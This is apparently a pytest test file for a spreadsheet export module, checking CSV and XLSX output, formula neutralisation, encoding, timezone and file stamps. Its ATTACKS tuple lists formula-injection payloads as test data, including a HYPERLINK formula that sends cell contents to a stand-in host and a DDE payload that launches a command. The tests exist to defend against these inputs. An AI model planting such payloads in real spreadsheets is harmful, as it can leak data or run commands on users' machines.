from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from zipfile import ZipFile

import pytest
from python_calamine import CalamineWorkbook

from web.spreadsheets import Stamp, csv_parts, is_risky, write_xlsx

WHEN = datetime(2026, 3, 2, 1, 30, tzinfo=UTC)
ATTACKS = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1＋1",
    "\uff20SUM(1)",
)


def read_csv(parts: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(parts.decode("utf-8-sig"), newline="")))


def xlsx_of(*rows: list[object], notes: tuple[str, ...] = ()) -> bytes:
    file = io.BytesIO()
    write_xlsx(file, ["一", "二"], rows, notes)
    return file.getvalue()


@pytest.mark.parametrize("text", ATTACKS)
def test_what_looks_like_a_formula_is_no_formula_in_csv(text: str):
    found = read_csv(b"".join(csv_parts([text], [[text]], [text])))

    assert found == [["'" + text]] * 3


@pytest.mark.parametrize("text", ATTACKS)
def test_what_looks_like_a_formula_stays_text_in_xlsx(text: str):
    file = xlsx_of([text, "安全"], notes=(text,))

    with ZipFile(io.BytesIO(file)) as inside:
        sheet = inside.read("xl/worksheets/sheet1.xml").decode()
        styles = inside.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert 'quotePrefix="1"' in styles
    rows = CalamineWorkbook.from_filelike(io.BytesIO(file)).get_sheet_by_index(0)
    assert rows.to_python()[1] == [text, "安全"]


@pytest.mark.parametrize("text", ["电热毯", "1-2", "a=b", "", "XM2026-0107", "第1行"])
def test_an_ordinary_text_is_left_as_it_is(text: str):
    assert not is_risky(text)
    assert read_csv(b"".join(csv_parts(["一"], [["x", text]], [])))[1][1] == text


def test_numbers_stay_numbers_even_below_zero():
    assert read_csv(b"".join(csv_parts(["一"], [[-3, 2.5]], [])))[1] == ["-3", "2.5"]

    sheet = CalamineWorkbook.from_filelike(io.BytesIO(xlsx_of([-3, 2.5])))
    assert sheet.get_sheet_by_index(0).to_python()[1] == [-3.0, 2.5]


def test_csv_follows_rfc_4180_and_begins_with_the_mark_that_excel_needs():
    cells = ['他说"好"', "甲,乙\n丙", None, date(2026, 7, 20)]
    file = b"".join(csv_parts(["头"], [cells], []))

    assert file.startswith(b"\xef\xbb\xbf")
    lines = file.decode("utf-8-sig")
    assert lines == '头\r\n"他说""好""","甲,乙\n丙",,2026-07-20\r\n'


def test_moments_are_written_in_the_time_of_xiamen():
    moment = datetime(2026, 7, 20, 1, 5, tzinfo=UTC)

    rows = read_csv(b"".join(csv_parts(["一"], [[moment]], [])))

    assert rows[1] == ["2026-07-20 09:05"]


def test_a_long_list_is_handed_out_in_parts_and_its_notes_come_last():
    seen: list[int] = []

    def rows():
        for number in range(1000):
            seen.append(number)
            yield [str(number)]

    def notes():
        yield f"共 {len(seen)} 行"

    parts = csv_parts(["一"], rows(), notes())
    next(parts)

    assert len(seen) < 1000
    assert read_csv(b"".join(parts))[-1] == ["共 1000 行"]


def test_the_file_says_at_its_head_and_in_its_properties_whose_copy_it_is():
    stamp = Stamp(
        title="案件",
        who="导出人：张&工（zhang）",
        when=WHEN,
        remark="仅供办理公务使用",
    )
    file = io.BytesIO()
    write_xlsx(file, ["一"], [["x"]], [], stamp=stamp)

    with ZipFile(file) as inside:
        sheet = inside.read("xl/worksheets/sheet1.xml").decode()
        core = inside.read("docProps/core.xml").decode()
    assert "&amp;L案件&amp;R导出人：张&amp;&amp;工（zhang） 2026-03-02 09:30" in sheet
    assert "<dc:title>案件</dc:title>" in core
    assert "<dc:creator>导出人：张&amp;工（zhang）</dc:creator>" in core
    assert "2026-03-02 09:30 仅供办理公务使用</dc:description>" in core
    assert "2026-03-02T01:30:00Z</dcterms:created>" in core


def test_a_head_keeps_its_length_whatever_a_list_is_called():
    stamp = Stamp(title="&" * 300, who="&" * 300, when=WHEN, remark="")
    file = io.BytesIO()
    write_xlsx(file, ["一"], [], ["&" * 300], stamp=stamp)

    with ZipFile(file) as inside:
        sheet = inside.read("xl/worksheets/sheet1.xml").decode()
    head = sheet.partition("<oddHeader>")[2].partition("</oddHeader>")[0]
    assert 0 < len(head.replace("&amp;", "&")) <= 255
